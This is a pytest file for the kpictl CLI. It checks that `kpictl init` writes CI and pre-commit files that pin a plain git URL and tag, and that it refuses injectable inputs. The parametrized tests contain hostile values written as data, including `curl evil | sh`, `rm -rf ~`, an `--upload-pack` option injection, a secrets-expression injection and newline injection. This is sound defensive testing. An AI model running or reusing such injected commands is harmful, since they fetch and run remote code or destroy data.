"""`kpictl init` writes CI that installs kpictl from its repository, and nothing injectable.

kpictl is not on PyPI: the scaffold's pre-commit config names kpictl's hook repository
at a pinned tag, and its workflow pip-installs `kpictl @ git+URL@TAG`. The URL and the
tag land in YAML and in a shell step, so `init` refuses anything but a plain git URL
and ref. The slow tests run the generated files for real: pre-commit and the
workflow's shell steps install kpictl from a local, tagged copy of this checkout.

Also here: the composite action (action.yml) keeps inputs out of option positions and
out of GITHUB_OUTPUT's line structure.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import tomllib
import venv
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from kpictl import REPOSITORY, __version__
from kpictl.authoring.scaffold import plan
from tests.conftest import ROOT, Run
from tests.gitrepo import Repo, git_env, requires_git  # noqa: F401 - git_env is a fixture
from tests.helpers import BASE, write_registry
from tests.test_action import _run_step
from tests.test_pre_commit import hooks_repository, pre_commit

TAG = "v9.9.9"
INSTALL = 'python -m pip install "$KPICTL_REQUIREMENT"'


def load(text: str) -> Any:
    return YAML(typ="safe", pure=True).load(text)


def scaffold() -> dict[str, Any]:
    """The default scaffold's pre-commit config and workflow, parsed."""
    written = {item.path.as_posix(): item.text for item in plan("X", "UTC", date(2026, 11, 22))}
    return {
        "pre-commit": load(written[".pre-commit-config.yaml"]),
        "workflow": load(written[".github/workflows/kpictl.yml"]),
    }


def install_step(workflow: dict[str, Any]) -> dict[str, Any]:
    steps = workflow["jobs"]["check"]["steps"]
    return next(step for step in steps if step.get("name") == "Install kpictl")


def test_repository_is_the_one_in_pyproject() -> None:
    config = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    assert (
        config["project"]["urls"]["Repository"] == REPOSITORY == "https://github.com/kpictl/kpictl"
    )


def test_workflow_installs_kpictl_from_its_repository_at_the_version_tag() -> None:
    workflow = scaffold()["workflow"]
    assert install_step(workflow) == {
        "name": "Install kpictl",
        "env": {"KPICTL_REQUIREMENT": f"kpictl @ git+{REPOSITORY}@v{__version__}"},
        "run": INSTALL,
    }
    runs = [step["run"] for step in workflow["jobs"]["check"]["steps"] if "run" in step]
    assert runs == [INSTALL, "kpictl fmt --check", "kpictl check --format github"]
    assert workflow["permissions"] == {"contents": "read"}


def test_pre_commit_config_uses_the_hooks_kpictl_ships() -> None:
    config = scaffold()["pre-commit"]
    assert config == {
        "repos": [
            {
                "repo": REPOSITORY,
                "rev": f"v{__version__}",
                "hooks": [{"id": "kpictl-fmt"}, {"id": "kpictl-check"}, {"id": "kpictl-schema"}],
            }
        ]
    }
    shipped = {hook["id"]: hook for hook in load((ROOT / ".pre-commit-hooks.yaml").read_text())}
    # language: python installs the hook repository itself: no additional_dependencies.
    assert {shipped[hook["id"]]["language"] for hook in config["repos"][0]["hooks"]} == {"python"}
    schema = shipped["kpictl-schema"]
    assert (schema["entry"], schema["args"]) == ("kpictl schema", ["--out", ".kpictl/schema"])
    assert (schema["pass_filenames"], schema["always_run"]) == (False, True)


def test_init_pins_the_source_and_ref_given(run: Run, tmp_path: Path) -> None:
    root = tmp_path / "reg"
    source = "ssh://git@git.acme.example:2222/tools/kpictl.history.git"
    result = run("init", str(root), "--kpictl-source", source, "--kpictl-ref", "1.10")
    assert result.code == 0, result.err
    config = load((root / ".pre-commit-config.yaml").read_text())
    # Quoted in the file: unquoted, YAML would read the ref 1.10 as the number 1.1.
    assert (config["repos"][0]["repo"], config["repos"][0]["rev"]) == (source, "1.10")
    workflow = load((root / ".github/workflows/kpictl.yml").read_text())
    assert install_step(workflow)["env"] == {"KPICTL_REQUIREMENT": f"kpictl @ git+{source}@1.10"}


USAGE = "Usage: kpictl init [OPTIONS] [FOLDER]\nTry 'kpictl init -h' for help.\n\n"
EXAMPLE = "such as https://github.com/kpictl/kpictl or file:///srv/git/kpictl"
NOT_URL = f"is not a git URL: use one starting with https://, ssh://, git:// or file:///, {EXAMPLE}"
BAD_CHARACTERS = (
    f"is not a git URL kpictl can write into the workflow: use a URL {EXAMPLE} "
    "(letters, digits and ._~:/@%+- only)"
)
CREDENTIALS = (
    "holds credentials, which would be committed with the scaffold: use a URL without them "
    "(and a credential helper)"
)
BAD_REF = (
    f"is not a git tag or commit kpictl can pin: use a tag such as v{__version__} "
    "(letters, digits and ._/+- only)"
)


@pytest.mark.parametrize(
    ("option", "value", "message"),
    [
        (
            "--kpictl-source",
            "git@github.com:kpictl/kpictl",
            f"'git@github.com:kpictl/kpictl' {NOT_URL}",
        ),
        ("--kpictl-source", "kpictl", f"'kpictl' {NOT_URL}"),
        ("--kpictl-source", "", f"'' {BAD_CHARACTERS}"),
        (
            "--kpictl-source",
            'https://x.example/k"; curl evil | sh; "',
            f"'https://x.example/k\"; curl evil | sh; \"' {BAD_CHARACTERS}",
        ),
        (
            "--kpictl-source",
            "https://x.example/${{ secrets.TOKEN }}",
            f"'https://x.example/${{{{ secrets.TOKEN }}}}' {BAD_CHARACTERS}",
        ),
        (
            "--kpictl-source",
            "https://x.example/k\n    hooks: []",
            f"'https://x.example/k hooks: []' {BAD_CHARACTERS}",
        ),
        (
            "--kpictl-source",
            "https://ghp_secret@github.com/kpictl/kpictl",
            f"'https://...@github.com' {CREDENTIALS}",
        ),
        (
            "--kpictl-source",
            "ssh://git:hunter2@git.acme.example/kpictl",
            f"'ssh://...@git.acme.example' {CREDENTIALS}",
        ),
        (
            "--kpictl-source",
            "https://github.com",
            "'https://github.com' is not a git URL: it needs a host and a path, " + EXAMPLE,
        ),
        (
            "--kpictl-source",
            "file://host/srv/kpictl",
            "'file://host/srv/kpictl' is not a git URL: it needs file:/// and an absolute path, "
            + EXAMPLE,
        ),
        (
            "--kpictl-source",
            "file:///srv/k@v1/kpictl",
            "'file:///srv/k@v1/kpictl' has an @ in its path, which pip would take for the ref",
        ),
        ("--kpictl-ref", "", f"'' {BAD_REF}"),
        ("--kpictl-ref", "--upload-pack=touch /tmp/x", f"'--upload-pack=touch /tmp/x' {BAD_REF}"),
        ("--kpictl-ref", "v1; rm -rf ~", f"'v1; rm -rf ~' {BAD_REF}"),
        ("--kpictl-ref", "v1\x1b[2J", f"'v1 [2J' {BAD_REF}"),
        ("--kpictl-ref", "v1..v2", f"'v1..v2' {BAD_REF}"),
        ("--kpictl-ref", "main.lock", f"'main.lock' {BAD_REF}"),
    ],
)
def test_init_refuses_options_it_cannot_write_safely(
    run: Run, tmp_path: Path, option: str, value: str, message: str
) -> None:
    root = tmp_path / "reg"
    result = run("init", str(root), option, value)
    assert (result.code, result.out) == (2, "")
    assert result.err == f"{USAGE}Error: Invalid value for {option}: {message}\n"
    assert not root.exists()


@pytest.mark.parametrize(
    ("zone", "shown"),
    [
        ("Europe", "Europe"),  # a folder of the time zone database: it crashed init
        ("Europe/\x1b[31mBerlin", "Europe/\\x1b[31mBerlin"),  # no escape reaches the terminal
    ],
)
def test_init_refuses_a_zone_that_is_not_one(
    run: Run, tmp_path: Path, zone: str, shown: str
) -> None:
    root = tmp_path / "reg"
    result = run("init", str(root), "--timezone", zone)
    assert (result.code, result.out) == (2, "")
    assert result.err == (
        f"{USAGE}Error: Invalid value for --timezone: '{shown}' is not a known time zone: "
        "use an IANA name such as Europe/Berlin or America/New_York\n"
    )
    assert not root.exists()


@pytest.mark.parametrize(
    "source",
    [
        "https://github.com/kpictl/kpictl",
        "https://git.acme.example/tools/kpictl.history.git",
        "ssh://git@github.com/kpictl/kpictl.history.git",
        "git://git.acme.example/kpictl",
        "file:///srv/git/kpictl",
        "file://localhost/srv/git/kpictl",
    ],
)
def test_init_accepts_plain_git_urls(run: Run, tmp_path: Path, source: str) -> None:
    result = run("init", str(tmp_path / "reg"), "--kpictl-source", source, "--kpictl-ref", "v1.2.3")
    assert result.code == 0, result.err


# The real thing: pre-commit and the workflow's steps install kpictl from a tagged local
# copy of this checkout (its dependencies come from the package index).


def tagged_hooks(tmp_path: Path) -> str:
    """A git repository holding this checkout, tagged TAG; returns its file:// URL.

    With a host: the pip that `venv` bundles with Python 3.11 (23.x) refuses a
    `git+file:///` requirement, though it takes `git+file://localhost/`.
    """
    hooks, _ = hooks_repository(tmp_path)
    Repo(hooks).git("tag", TAG)
    return hooks.as_uri().replace("file:///", "file://localhost/", 1)


def scaffolded_repository(run: Run, tmp_path: Path, source: str) -> Repo:
    repo = Repo.init(tmp_path / "kpis")
    result = run("init", str(repo.path), "--kpictl-source", source, "--kpictl-ref", TAG)
    assert result.code == 0, result.err
    repo.git("add", "-A")
    return repo


# A primary owner who is also the backup: O001, an error.
BROKEN = ("kpis/mql.yaml", "backup: sam-rivera", "backup: alex-morgan")


def owner_line(repo: Repo) -> int:
    lines = (repo.path / BROKEN[0]).read_text().splitlines()
    return next(n for n, line in enumerate(lines, 1) if BROKEN[2] in line)


@requires_git
@pytest.mark.slow
@pytest.mark.skipif(shutil.which("pre-commit") is None, reason="pre-commit is not installed")
@pytest.mark.usefixtures("git_env")
def test_scaffolded_pre_commit_config_installs_kpictl_and_runs(run: Run, tmp_path: Path) -> None:
    repo = scaffolded_repository(run, tmp_path, tagged_hooks(tmp_path))
    home = tmp_path / "pre-commit-home"

    clean = pre_commit(repo.path, home)
    assert clean.returncode == 0, clean.stdout + clean.stderr
    lines = [line for line in clean.stdout.splitlines() if line.startswith("kpictl ")]
    assert [line.rsplit(".", 1)[-1] for line in lines] == ["Passed"] * 3, clean.stdout
    assert [line.split(".", 1)[0] for line in lines] == [
        "kpictl fmt",
        "kpictl check",
        "kpictl schema (editor schemas up to date)",
    ]

    repo.replace(*BROKEN)
    repo.git("add", "-A")
    broken = pre_commit(repo.path, home)
    assert broken.returncode == 1, broken.stdout + broken.stderr
    assert f"kpis/mql.yaml:{owner_line(repo)}:" in broken.stdout
    assert " O001 [error] " in broken.stdout
    assert broken.stdout.count("Failed") == 1
    assert broken.stdout.count("Passed") == 2


@requires_git
@pytest.mark.slow
@pytest.mark.usefixtures("git_env")
def test_scaffolded_workflow_steps_install_kpictl_and_run(run: Run, tmp_path: Path) -> None:
    repo = scaffolded_repository(run, tmp_path, tagged_hooks(tmp_path))
    workflow = load((repo.path / ".github/workflows/kpictl.yml").read_text())
    steps = [step for step in workflow["jobs"]["check"]["steps"] if "run" in step]
    # A fresh Python stands in for actions/setup-python.
    python = tmp_path / "python"
    venv.create(python, with_pip=True)
    env = {
        **os.environ,
        "PATH": f"{python / 'bin'}{os.pathsep}{os.environ['PATH']}",
        "GITHUB_ACTIONS": "true",
        "NO_COLOR": "1",
    }
    env.pop("VIRTUAL_ENV", None)

    def bash(step: dict[str, Any]) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
            cwd=repo.path,
            env={**env, **step.get("env", {})},
            capture_output=True,
            text=True,
            check=False,
            timeout=900,
        )

    for step in steps:
        done = bash(step)
        assert done.returncode == 0, f"{step['run']}: {done.stdout}{done.stderr}"
    where = subprocess.run(
        ["bash", "-c", "command -v kpictl"], env=env, capture_output=True, text=True, check=True
    )
    assert where.stdout.strip() == str(python / "bin" / "kpictl")

    repo.replace(*BROKEN)
    failed = bash(steps[-1])
    assert failed.returncode == 1
    assert failed.stdout.startswith(f"::error file=kpis/mql.yaml,line={owner_line(repo)},col="), (
        failed.stdout
    )


# The composite action: inputs reach kpictl as values, never as options or output lines.


@requires_git
@pytest.mark.skipif(shutil.which("kpictl") is None, reason="kpictl is not installed on PATH")
@pytest.mark.usefixtures("git_env")
@pytest.mark.parametrize("path", ["--help", "-h", "--output=kpictl-owned.txt"])
def test_action_never_reads_the_path_input_as_an_option(tmp_path: Path, path: str) -> None:
    repo = Repo.init(tmp_path / "repo")
    write_registry(repo.path / "registry", BASE)
    repo.commit("Registry")
    output = tmp_path / "output"
    env = {
        "KPICTL_PATH": path,
        "KPICTL_FAIL_ON": "error",
        "KPICTL_BASE": "",
        "KPICTL_PR_BASE": "",
        "GITHUB_OUTPUT": str(output),
        "GITHUB_ACTIONS": "true",
    }
    checked = _run_step("check", env, repo.path)
    assert checked.returncode == 0
    assert checked.stdout == ""
    assert checked.stderr == f"kpictl: no such file or folder: {path}\n"
    assert output.read_text() == "exit-code=2\nbase=\n"
    assert sorted(p.name for p in repo.path.iterdir()) == [".git", "registry"]

    sarif = _run_step("Write SARIF", env, repo.path)
    assert sarif.returncode == 1  # `|| [ $? -eq 1 ]` lets findings through, not exit 2
    assert sarif.stderr == f"kpictl: no such file or folder: {path}\n"


@requires_git
@pytest.mark.skipif(shutil.which("kpictl") is None, reason="kpictl is not installed on PATH")
@pytest.mark.usefixtures("git_env")
@pytest.mark.parametrize("base", ["main\nexit-code=0", "main\rexit-code=0", "--help"])
def test_action_refuses_a_base_that_could_forge_an_output(tmp_path: Path, base: str) -> None:
    repo = Repo.init(tmp_path / "repo")
    write_registry(repo.path / "registry", BASE)
    repo.commit("Registry")
    output = tmp_path / "output"
    env = {
        "KPICTL_PATH": "registry",
        "KPICTL_FAIL_ON": "error",
        "KPICTL_BASE": base,
        "KPICTL_PR_BASE": "",
        "GITHUB_OUTPUT": str(output),
        "GITHUB_ACTIONS": "true",
    }
    checked = _run_step("check", env, repo.path)
    assert checked.returncode == 2
    assert (
        checked.stdout
        == "::error title=kpictl::the base input is not a branch, tag or commit name\n"
    )
    assert output.read_text() == "exit-code=2\n"
